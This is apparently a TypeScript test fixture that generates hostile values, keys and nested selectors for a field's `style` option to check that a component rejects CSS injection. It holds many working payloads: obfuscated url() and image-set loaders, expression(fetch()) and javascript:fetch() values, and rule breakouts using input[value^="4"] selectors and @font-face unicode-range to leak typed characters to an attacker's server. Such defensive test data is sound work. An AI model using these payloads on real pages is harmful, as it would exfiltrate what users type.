/**
 * An attacker's styles for the `style` option: values, keys and nested keys that would load something, end the
 * declaration, or read what is typed. Each has a different address, so that the server's log identifies the rule.
 */

/** One declaration of an attacker. */
export interface HostileRule {
  readonly variant: string
  /** Key of the nested rule that it is in, if any. */
  readonly nested?: string
  readonly property: string
  readonly value: unknown
}

const properties = [
  ...[
    'color',
    'fontFamily',
    'fontSize',
    'fontStyle',
    'lineHeight',
    'letterSpacing',
    'fontWeight',
    'fontVariant',
  ],
  ...['fontSmoothing', 'textAlign', 'textDecoration', 'textShadow', 'textTransform', 'padding'],
  ...['backgroundColor', 'caretColor', 'iconColor'],
]

const pseudos = [':hover', ':focus', ':disabled', '::placeholder', '::selection', ':-webkit-autofill']

/** @param address Returns a new address of the attacker's server each time. */
export function hostileValues(address: () => string): string[] {
  const url = (): string => `url(${address()})`
  return [
    // Spellings of url().
    url(),
    `url("${address()}")`,
    `url('${address()}')`,
    `URL(${address()})`,
    `uRl( "${address()}" )`,
    `url(\n${address()}\t)`,
    `url(${address()}`,
    `url("${address()}`,
    `url(${address().replace('http:', '')})`,
    `\\75rl(${address()})`,
    `\\000075 rl(${address()})`,
    `u\\72l(${address()})`,
    `ur\\6c(${address()})`,
    `\\55\\52\\4c(${address()})`,
    `url\\28 ${address()}\\29`,
    `/**/url(${address()})/**/`,
    `u/**/rl(${address()})`,
    `red url(${address()})`,
    `none, ${url()}`,
    `\uFF55\uFF52\uFF4C(${address()})`,
    `\u200Burl(${address()})`,
    `\u0000url(${address()})`,
    `url(data:image/svg+xml,%3Csvg onload="fetch('${address()}')"/%3E)`,
    `url(javascript:fetch('${address()}'))`,
    'url(#x)',
    'url()',
    // Other functions that load something, or insert a value from elsewhere.
    `src("${address()}")`,
    `image("${address()}")`,
    `image-set("${address()}" 1x)`,
    `image-set(${url()} 1x, ${url()} 2x)`,
    `IMAGE-SET("${address()}" 1x)`,
    `-webkit-image-set(${url()} 1x)`,
    `image\\2d set("${address()}" 1x)`,
    `cross-fade(${url()}, ${url()}, 50%)`,
    `-webkit-cross-fade(${url()}, ${url()}, 50%)`,
    `-moz-image-rect(${url()}, 0, 1, 1, 0)`,
    'element(#pan)',
    '-moz-element(#pan)',
    '-webkit-canvas(pan)',
    'paint(pan)',
    `linear-gradient(red, blue), ${url()}`,
    `light-dark(${url()}, ${url()})`,
    `color-mix(in srgb, red, ${url()})`,
    'attr(value)',
    'attr(value type(<color>), red)',
    'attr(value px, 1px)',
    `attr(data-x type(<url>), ${url()})`,
    'var(--x)',
    `var(--x, ${url()})`,
    'VAR(--icon-color)',
    'v\\61r(--x)',
    `env(safe-area-inset-top, ${url()})`,
    'ENV(x)',
    `if(style(--x: 1): ${url()}; else: ${url()})`,
    `if(media(width > 0px): ${url()})`,
    'if (else: red)',
    `--loads(${url()})`,
    'inherit(--x)',
    'toggle(red, blue)',
    'random(1px, 9px)',
    'calc(1px * sibling-index())',
    'anchor(--x left)',
    'symbols(cyclic "4" "2")',
    `expression(fetch("${address()}"))`,
    `javascript:fetch("${address()}")`,
    `progid:DXImageTransform.Microsoft.AlphaImageLoader(src="${address()}")`,
    // Texts that end the declaration, the rule or the sheet.
    `red; background: ${url()}`,
    `red;background-image:${url()} !important`,
    `red;--x:${url()};background:var(--x)`,
    `red;-moz-binding:${url()}`,
    `red;behavior:${url()}`,
    `red} input{background:${url()}`,
    `red} input[value^="4"]{background:${url()}`,
    `red} input:not([value^="9"]){background:${url()}`,
    `red} body:has(input){background:${url()}`,
    `red} *::before{content:${url()}`,
    `red}\n@import url(${address()});`,
    `red} @font-face{font-family:x;src:${url()};unicode-range:U+34} input{font-family:x`,
    `red} @namespace ${url()};`,
    `red} @media all{input{background:${url()}}`,
    `red\\7d input{background:${url()}`,
    `red\\3b background:${url()}`,
    `red/*} */} input{background:${url()}`,
    `*/red} input{background:${url()}/*`,
    `"} input{background:${url()}`,
    `red\r\n}\r\ninput{background:${url()}`,
    `red</style><style>input{background:${url()}}`,
    `red</style><img src="${address()}">`,
    `<!-- red --> ${url()}`,
    `@import "${address()}"`,
    `@import ${url()} layer(x)`,
    // Other malformed values.
    `red${' '.repeat(120)}${url()}`,
    'x'.repeat(129),
    'x'.repeat(20_000),
    `${'('.repeat(128)}`,
    '\\',
    '\\\n',
    '"unclosed',
    "'unclosed",
    '',
    ' ',
    '\u0000',
    '\ud800',
    '\u202Eder',
    '!important',
    '! important',
    'red !important',
    'progress(1px, 2px, 3px)',
    '__proto__',
    'constructor',
  ]
}

/** Keys that are not properties of the option, with a value that would load something. */
function hostileKeys(address: () => string): [key: string, value: string][] {
  return [
    ...['background', 'backgroundImage', 'background-image', 'content', 'cursor', 'filter', 'backdropFilter'],
    ...[
      'listStyle',
      'listStyleImage',
      'borderImage',
      'borderImageSource',
      'mask',
      'maskImage',
      'webkitMaskImage',
    ],
    ...['WebkitMaskBoxImage', 'clipPath', 'shapeOutside', 'offsetPath', 'src', 'behavior', 'MozBinding'],
    ...['cssText', 'all', 'animation', 'transition', '--icon-color', '--x', 'fill', 'stroke', 'markerStart'],
    ...['constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'valueOf'],
    ...[
      '',
      ' ',
      ' color',
      'color ',
      'COLOR',
      'Color',
      'color;background',
      'color:red;background',
      'color\u0000',
    ],
    ...['color/**/', '}input{background', '@import', '0', '42', 'font-face', 'x'.repeat(100_000), '\ud800'],
  ].map((key) => [key, `url(${address()})`])
}

/** Keys of nested rules that the option does not have. */
const hostileNested: readonly string[] = [
  ...['::before', '::after', ':has(*)', ':hover, body', ':hover,body', ':not(:hover)', '[value^="4"]'],
  ...[
    '[value^="4"]:focus',
    ':not([value^="4"])',
    ' + span',
    ' ~ *',
    ' *',
    '',
    ' ',
    ':hover ',
    ' :hover',
    ':HOVER',
  ],
  ...[
    ':hover{} input[value^="4"]',
    '{',
    '}',
    '} body',
    '@import "x"',
    '@media all',
    ':is(a',
    ':where(',
    '::',
  ],
  ...[':', ':root', ':host', ':visited', ':valid', ':checked', ':nth-child(1)', ':focus-within', ':autofill'],
  ...['::part(x)', '::file-selector-button', '::view-transition', '::-webkit-textfield-decoration-container'],
  ...['::-webkit-caps-lock-indicator', ':hover\u0000', '\\:hover', ':hover/**/', 'constructor', 'toString'],
]

/**
 * Puts everything into styles for `create` and `update`. The plain rules of `base` and `empty` have harmless
 * declarations, which show that the rest of the option still applies.
 */
export function hostileStyles(address: () => string): {
  styles: Record<string, object>[]
  rules: HostileRule[]
} {
  const places = ['base', 'empty', 'complete', 'invalid'].flatMap((variant) => [
    ...(variant === 'complete' || variant === 'invalid' ? [{ variant }] : []),
    ...pseudos.map((nested) => ({ variant, nested })),
  ])
  const values = hostileValues(address)
  const inValues = values.map((value, index) =>
    properties.map((property) => ({ ...places[index % places.length], property, value }) as HostileRule),
  )
  const inKeys = hostileKeys(address).map(([property, value]) => ({ variant: 'base', property, value }))
  const inNested = hostileNested.map((nested) => ({
    variant: 'invalid',
    nested,
    property: 'color',
    value: `url(${address()})`,
  }))
  const batches: HostileRule[][] = [[...inKeys, ...inNested]]
  for (let at = 0; at < inValues.length; at += places.length) {
    batches.push(inValues.slice(at, at + places.length).flat())
  }
  return { styles: batches.map(styleOf), rules: batches.flat() }
}

/** The harmless part of each style, which applies while the field is empty. */
export const harmless = { color: 'rgb(1, 2, 3)', letterSpacing: '3px' } as const

function styleOf(rules: readonly HostileRule[]): Record<string, object> {
  const style: Record<string, Record<string, unknown>> = {
    base: { color: harmless.color },
    empty: { letterSpacing: harmless.letterSpacing },
  }
  for (const { variant, nested, property, value } of rules) {
    const rule = entryOf(style, variant)
    const target = nested === undefined ? rule : entryOf(rule, nested)
    target[property] = value
  }
  return style
}

/**
 * The object under a key, which is created if there is none. A key such as `constructor` does not find a built-in
 * property.
 */
function entryOf(owner: Record<string, unknown>, key: string): Record<string, unknown> {
  if (!Object.hasOwn(owner, key)) owner[key] = {}
  return owner[key] as Record<string, unknown>
}
